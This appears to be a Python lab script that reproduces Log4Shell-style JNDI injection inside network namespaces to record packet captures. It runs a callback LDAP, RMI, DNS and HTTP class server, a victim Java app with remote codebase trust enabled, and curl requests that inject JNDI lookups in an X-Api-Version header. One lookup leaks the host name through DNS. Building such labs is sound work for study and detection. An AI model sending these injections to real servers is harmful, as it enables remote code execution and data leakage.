"""Scenes of what follows an attempt: a Java program that asks JNDI, as Log4j did, and what it is
answered."""

import os
import socket
import struct
import subprocess
import sys

import lab as lab_module
import servers
from lab import FRONT
from scene import jndi, scene
from web import ENVIRONMENT, curl

CALLBACK, RESOLVER = "203.0.113.9", "203.0.113.53"
JAVA = os.path.join(servers.HERE, "java")
PROGRAM = os.path.join(servers.HERE, "callback.py")


def start_far_end(lab):
    """Addresses of the call-back and of a resolver, behind the client's end of the link."""
    for address in (CALLBACK, RESOLVER):
        lab.ip("client", "address", "add", address + "/32", "dev", "c0")
    lab.ip("server", "route", "add", "203.0.113.0/24", "dev", "s0", "src", FRONT)
    lab.start("client", sys.executable, PROGRAM, "dns", RESOLVER, "53", CALLBACK)
    lab.start("client", sys.executable, PROGRAM, "ldap", CALLBACK, "1389",
              f"http://{CALLBACK}:8000/")
    lab_module.run("javac", "-d", f"{lab.folder}/code", os.path.join(JAVA, "Probe.java"))
    lab.start("client", sys.executable, "-m", "http.server", "--bind", CALLBACK, "--directory",
              f"{lab.folder}/code", "8000")
    for port in (1389, 8000):
        lab.wait_listening("client", CALLBACK, port)
    lab_module.wait_for("the resolver", lambda: ask(lab, "ready.example", "client"))


def start_victim(lab):
    """Its names come from the lab's resolver, and it trusts code from elsewhere, as JDK 8 did."""
    resolv = lab.write("resolv.conf", f"nameserver {RESOLVER}\n")
    lab.start("server", "unshare", "-m", "sh", "-c",
              'mount --bind "$0" /etc/resolv.conf && exec "$@"', resolv, "java",
              "-Dcom.sun.jndi.ldap.object.trustURLCodebase=true",
              "-Djava.net.preferIPv4Stack=true", "--add-modules", "jdk.naming.dns",
              os.path.join(JAVA, "Victim.java"), FRONT, "8080",
              env=ENVIRONMENT)
    lab.wait_listening("server", FRONT, 8080)


def ask(lab, name, namespace="server"):
    """One DNS query, by hand; whether it was answered."""
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
    with lab.inside(namespace), socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
        client.settimeout(2)
        client.sendto(struct.pack(">HHHHHH", 7, 0x0100, 1, 0, 0, 0) + labels + b"\0" +
                      struct.pack(">HH", 1, 1), (RESOLVER, 53))
        try:
            return bool(client.recv(512))
        except OSError:
            return False


def attack(lab, name):
    curl(lab, "http://shop.example:8080/", "-H", "X-Api-Version: " + name)


@scene("story-ldap")
def ldap(lab, path):
    """By name, the whole way: resolved, called back, a reference, a class. Then by a name with the
    host's in it, and by address, of which the class is there already."""
    start_far_end(lab)
    start_victim(lab)
    with lab.capture(path):
        attack(lab, jndi("first", host="callback.example:1389"))
        attack(lab, jndi("second", host="${hostName}.probe.example:1389"))
        attack(lab, jndi("third", host=f"{CALLBACK}:1389"))


@scene("story-rmi")
def rmi(lab, path):
    """A registry that has the object, and JNDI's DNS, whose call-back is a name server."""
    start_far_end(lab)
    lab.start("client", "java", f"-Djava.rmi.server.hostname={CALLBACK}",
              os.path.join(JAVA, "Registry.java"), "1099", env=ENVIRONMENT)
    lab.wait_listening("client", CALLBACK, 1099)
    start_victim(lab)
    with lab.capture(path):
        attack(lab, jndi("object", scheme="rmi", host=f"{CALLBACK}:1099"))
        attack(lab, jndi("web01.leak.example", scheme="dns", host=RESOLVER))


@scene("story-nothing")
def nothing(lab, path):
    """Attempts that nothing follows: other names, another port of the call-back, a class from
    elsewhere, and the server named as its own call-back."""
    start_far_end(lab)
    servers.start_java_app(lab, 8080)
    lab.start("inner", sys.executable, "-m", "http.server", "--bind", lab_module.INNER,
              "--directory", f"{lab.folder}/code", "8000")
    lab.wait_listening("inner", lab_module.INNER, 8000)
    with lab.capture(path, interface="any", link_type="LINUX_SLL2"):
        attack(lab, jndi("by-name", host="callback.example:1389"))
        attack(lab, jndi("by-address", host=f"{CALLBACK}:1389"))
        attack(lab, jndi("itself", host=f"{FRONT}:8080"))
        attack(lab, jndi("one-label", host="example:1389"))
        attack(lab, "1.0")
        ask(lab, "other.example")
        ask(lab, "callback.example.org")
        with lab.inside("server"):
            subprocess.run(["curl", "-q", "-s", "-S", "--noproxy", "*", "-o", "/dev/null",
                            f"http://{CALLBACK}:8000/"], check=True, env=ENVIRONMENT)
            subprocess.run(["curl", "-q", "-s", "-S", "--noproxy", "*", "-o", "/dev/null",
                            f"http://{lab_module.INNER}:8000/Probe.class"], check=True,
                           env=ENVIRONMENT)
